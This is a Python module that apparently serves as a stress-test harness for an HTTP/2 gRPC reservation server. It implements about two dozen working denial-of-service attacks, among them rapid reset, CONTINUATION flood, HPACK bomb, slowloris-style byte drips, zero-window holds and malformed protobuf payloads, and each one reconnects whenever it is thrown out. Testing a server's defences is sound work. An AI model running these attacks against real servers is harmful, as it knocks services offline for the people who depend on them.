"""The known attacks on an HTTP/2 server, each as a function that goes on until it is told to stop.

Owns how each attack looks on the wire; judges nothing. An attack returns how its connections
ended: "calm" for GOAWAY with ENHANCE_YOUR_CALM, "goaway N" for another code, "closed", or "open"
for one that the server still kept. Connects again whenever it is thrown out, as an attacker does.
"""

from __future__ import annotations

import itertools
import os
import socket
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Mapping
from contextlib import ExitStack

from atp.v1 import reservation_pb2 as pb
from front_frames import (
    CONTINUATION,
    END_STREAM,
    ENHANCE_YOUR_CALM,
    INITIAL_WINDOW_SIZE,
    PREFACE,
    PRIORITY,
    Connection,
    ask,
    call_fields,
    data,
    field,
    frame,
    framed,
    from_table,
    headers,
    in_parts,
    number,
    ping,
    reset,
    settings,
    window_update,
)  # fmt: skip

GoOn = Callable[[], bool]
Endings = Counter[str]
Attack = Callable[[str, GoOn], Endings]

PART_SECONDS = 0.5
IDLE_CONNECTIONS = 10_000
SKU = "A"  # what the other client buys
AVAILABILITY = "/atp.v1.ReservationService/GetAvailability"
EXECUTE = "/atp.v1.ReservationService/Execute"
STREAMS = range(1, 2_000_001, 2)


def request() -> bytes:
    """A reserve of a SKU that isn't there: judged, and changes nothing."""
    lines = [pb.Line(sku="none-of-this", quantity=1)]
    return pb.ReserveRequest(request_id="attack", lines=lines).SerializeToString()


def long_question() -> bytes:
    """A question of one frame whose answer is ten times as long."""
    return pb.GetAvailabilityRequest(skus=[SKU] * 4_096).SerializeToString()


def ending(connection: Connection) -> str:
    """How the server ended a connection, or "open"."""
    try:
        code = connection.goaway_code(PART_SECONDS)
    except TimeoutError:
        return "open"
    if code == ENHANCE_YOUR_CALM:
        return "calm"
    return "closed" if code is None else f"goaway {code}"


def flood(
    address: str, go_on: GoOn, parts: Callable[[], Iterable[bytes]], *, reads: bool = True
) -> Endings:
    """Sends the parts again and again, over a new connection whenever one was closed."""
    endings: Endings = Counter()
    while go_on():
        with ExitStack() as stack:
            try:
                connection = stack.enter_context(Connection(address))
            except OSError:
                endings["not accepted"] += 1
                continue
            connection.socket.settimeout(PART_SECONDS)
            for part in parts():
                if not connection.send(part) or not go_on():
                    break
                if reads:
                    read_what_is_there(connection.socket)
            endings[ending(connection)] += 1
    return endings


def read_what_is_there(plug: socket.socket) -> None:
    """Takes what has come, and doesn't wait for more."""
    try:
        while plug.recv(1 << 20, socket.MSG_DONTWAIT):
            pass
    except OSError:
        return


def forever(text: bytes) -> Callable[[], Iterable[bytes]]:
    """The same bytes without end."""
    return lambda: in_parts(itertools.repeat(text))


def rapid_reset(address: str, go_on: GoOn) -> Endings:
    """Calls that are taken back before their message has come."""
    block = call_fields()
    return flood(address, go_on, lambda: in_parts(headers(i, block) + reset(i) for i in STREAMS))


def late_reset(address: str, go_on: GoOn) -> Endings:
    """Whole calls that are taken back at once: work done for nobody."""
    message = request()
    return flood(address, go_on, lambda: in_parts(ask(i, message) + reset(i) for i in STREAMS))


def continuation_flood(address: str, go_on: GoOn) -> Endings:
    """A header block that never ends."""

    def parts() -> Iterator[bytes]:
        yield headers(1, call_fields(), 0)
        yield from in_parts(frame(CONTINUATION, 0, 1, field(f"x-{i}", "y")) for i in STREAMS)

    return flood(address, go_on, parts)


def hpack_bomb(address: str, go_on: GoOn) -> Endings:
    """One long field in the table, named thousands of times in each call: 4 KiB for each byte."""

    def parts() -> Iterator[bytes]:
        block = call_fields() + field("x-bomb", "b" * 3_900, indexed=True)
        yield headers(1, block) + data(1, b"", END_STREAM)
        for i in STREAMS[1:]:
            yield headers(i, call_fields() + from_table(62) * 16_000) + data(i, b"", END_STREAM)

    return flood(address, go_on, parts)


def header_load(address: str, go_on: GoOn) -> Endings:
    """Calls with as many bytes of metadata as fit into a frame, each byte sent."""
    block = call_fields() + b"".join(field(f"x-{i}", "z" * 100) for i in range(130))
    message = framed(request())
    return flood(
        address,
        go_on,
        lambda: in_parts(headers(i, block) + data(i, message, END_STREAM) for i in STREAMS),
    )


def settings_flood(address: str, go_on: GoOn) -> Endings:
    """Settings without end, none of which is waited for."""
    return flood(address, go_on, forever(settings((INITIAL_WINDOW_SIZE, 65_535))))


def ping_flood(address: str, go_on: GoOn) -> Endings:
    """Pings without end, their answers read."""
    return flood(address, go_on, forever(ping()))


def unread_ping_flood(address: str, go_on: GoOn) -> Endings:
    """Pings without end, their answers left to the server."""
    return flood(address, go_on, forever(ping()), reads=False)


def priority_flood(address: str, go_on: GoOn) -> Endings:
    """A tree of priorities that is planted anew without end."""
    body = struct.pack(">IB", 0, 16)
    return flood(address, go_on, lambda: in_parts(frame(PRIORITY, 0, i, body) for i in STREAMS))


def window_flood(address: str, go_on: GoOn) -> Endings:
    """Windows opened by one byte without end."""
    return flood(address, go_on, forever(window_update(0, 1)))


def empty_data_flood(address: str, go_on: GoOn) -> Endings:
    """A call whose message comes in frames of nothing."""

    def parts() -> Iterator[bytes]:
        yield headers(1, call_fields())
        yield from in_parts(itertools.repeat(data(1, b"")))

    return flood(address, go_on, parts)


def strange_flood(address: str, go_on: GoOn) -> Endings:
    """Frames of a type that nobody knows."""
    return flood(address, go_on, forever(frame(0xBE, 0xFF, 0, b"?" * 16)))


def malformed_calls(address: str, go_on: GoOn) -> Endings:
    """Calls that are no gRPC: another content type, no path, and letters that may not be there."""
    wrong = [
        field(":method", "POST") + field(":scheme", "http") + field("content-type", "text/html"),
        call_fields(content_type="text/html"),
        call_fields() + field("Upper-Case", "x"),
        call_fields() + field("connection", "close"),
    ]
    return flood(address, go_on, lambda: in_parts(headers(i, wrong[i % 4], 0x5) for i in STREAMS))


def zero_window(address: str, go_on: GoOn) -> Endings:
    """Long answers asked for over windows that are never opened, over many connections."""
    message = long_question()
    opening = settings((INITIAL_WINDOW_SIZE, 0)) + window_update(0, 1 << 30)
    return hold(
        address, go_on, 16, opening + b"".join(ask(i, message, AVAILABILITY) for i in STREAMS[:64])
    )


def unread_answers(address: str, go_on: GoOn) -> Endings:
    """Long answers asked for with wide windows, and none ever read from the socket."""
    message = long_question()
    opening = settings((INITIAL_WINDOW_SIZE, 1 << 30)) + window_update(0, 1 << 30)
    return hold(
        address, go_on, 16, opening + b"".join(ask(i, message, AVAILABILITY) for i in STREAMS[:64])
    )


def slow_headers(address: str, go_on: GoOn) -> Endings:
    """Header blocks that come byte by byte over many connections."""
    start = headers(1, call_fields(), 0)
    return drip(address, go_on, 200, start, frame(CONTINUATION, 0, 1, field("x-slow", "y" * 200)))


def slow_bodies(address: str, go_on: GoOn) -> Endings:
    """Messages that come byte by byte over many connections."""
    start = headers(1, call_fields()) + data(1, framed(b"", size=100_000))
    return drip(address, go_on, 200, start, data(1, b"0") * 1_000)


def slow_starts(address: str, go_on: GoOn) -> Endings:
    """Connections that send the preface byte by byte."""
    return drip(address, go_on, 200, b"", PREFACE, silent=True)


def idle_connections(address: str, go_on: GoOn) -> Endings:
    """Ten thousand connections that say hello and nothing more."""
    return hold(address, go_on, IDLE_CONNECTIONS, b"")


def giant_messages(address: str, go_on: GoOn) -> Endings:
    """Messages that say they have 4 GiB, and start to come."""

    def parts() -> Iterator[bytes]:
        for i in STREAMS:
            yield headers(i, call_fields()) + data(i, framed(b"x" * 16_000, size=0xFFFFFFFF))
            yield data(i, b"x" * 16_000) * 3

    return flood(address, go_on, parts)


def many_large_messages(address: str, go_on: GoOn) -> Endings:
    """As many calls as there may be, each with a message that isn't whole, held for ever."""
    part = framed(b"x" * 16_000, size=1 << 20)
    opening = b"".join(headers(i, call_fields()) + data(i, part) for i in STREAMS[:4])
    return hold(address, go_on, 200, opening)


def deep_protobuf(address: str, go_on: GoOn) -> Endings:
    """Messages of groups in groups, fields that nobody knows, and numbers without an end."""
    texts = [
        b"\x63" * 30_000,
        b"\x63" * 15_000 + b"\x64" * 15_000,
        b"\xf8\x7f\x01" * 10_000,
        b"\x08" + b"\xff" * 30_000,
        b"\x12\xff\xff\xff\xff\x0f",
        b"".join(b"\x12" + number(i % 100, 7) for i in range(15_000)),
    ]

    def parts() -> Iterator[bytes]:
        for i, text in zip(STREAMS, itertools.cycle(texts), strict=False):
            body = framed(text)
            yield headers(i, call_fields()) + b"".join(
                data(i, body[at : at + 16_000], END_STREAM if at + 16_000 >= len(body) else 0)
                for at in range(0, len(body), 16_000)
            )

    return flood(address, go_on, parts)


def connect_and_close(address: str, go_on: GoOn) -> Endings:
    """Connections that are closed as soon as they are open, some in the middle of a call."""
    endings: Endings = Counter()
    hello = PREFACE + settings()
    texts = [b"", PREFACE[:10], hello, hello + ask(1, request())]
    host, _, port = address.rpartition(":")
    for turn in itertools.count():
        if not go_on():
            return endings
        with socket.socket() as plug:
            plug.settimeout(PART_SECONDS)
            if turn % 8 < 4:  # closed with a reset instead of a farewell
                plug.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            try:
                plug.connect((host, int(port)))
                plug.send(texts[turn % 4])
                endings["left"] += 1
            except OSError:
                endings["not accepted"] += 1
                time.sleep(0.01)  # the machine is out of ports for a moment
    return endings


def random_bytes(address: str, go_on: GoOn) -> Endings:
    """Noise, with and without a start that looks right."""
    return flood(address, go_on, lambda: (os.urandom(1_000) for _ in range(100)))


def hold(address: str, go_on: GoOn, connections: int, opening: bytes) -> Endings:
    """Opens connections, says something once, and keeps them open without reading."""
    endings: Endings = Counter()
    with ExitStack() as stack:
        held = []
        while go_on():
            if len(held) == connections:
                time.sleep(0.01)  # until told to stop; holding on is the attack
                continue
            try:
                connection = stack.enter_context(Connection(address))
            except OSError:
                endings["not accepted"] += 1
                time.sleep(0.01)  # a refused connection is tried again, though not at once
                continue
            held.append(connection)
            connection.socket.settimeout(PART_SECONDS / 5)
            connection.send(opening)
        endings["held"] = len(held)
    return endings


def drip(
    address: str, go_on: GoOn, connections: int, start: bytes, rest: bytes, *, silent: bool = False
) -> Endings:
    """Sends what comes after `start` byte by byte, over many connections at once."""
    endings: Endings = Counter()
    with ExitStack() as stack:
        alive: list[tuple[Connection, Iterator[int]]] = []
        while go_on():
            while len(alive) < connections and go_on():
                try:
                    connection = stack.enter_context(Connection(address, silent=silent))
                except OSError:
                    endings["not accepted"] += 1
                    break
                connection.send(start)
                alive.append((connection, iter(rest)))
            for each in list(alive):
                connection, letters = each
                letter = next(letters, None)
                if letter is None or not connection.send(bytes([letter])):
                    alive.remove(each)
                    endings["closed" if letter is not None else "sent"] += 1
                    connection.close()
            time.sleep(0.02)  # slowness is the attack
        endings["open"] = len(alive)
    return endings


ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        *(rapid_reset, late_reset, continuation_flood, hpack_bomb, header_load, settings_flood),
        *(ping_flood, unread_ping_flood, priority_flood, window_flood, empty_data_flood),
        *(strange_flood, malformed_calls, zero_window, unread_answers, slow_headers, slow_bodies),
        *(slow_starts, idle_connections, giant_messages, many_large_messages, deep_protobuf),
        *(connect_and_close, random_bytes),
    )
}
"""Every attack by its name."""
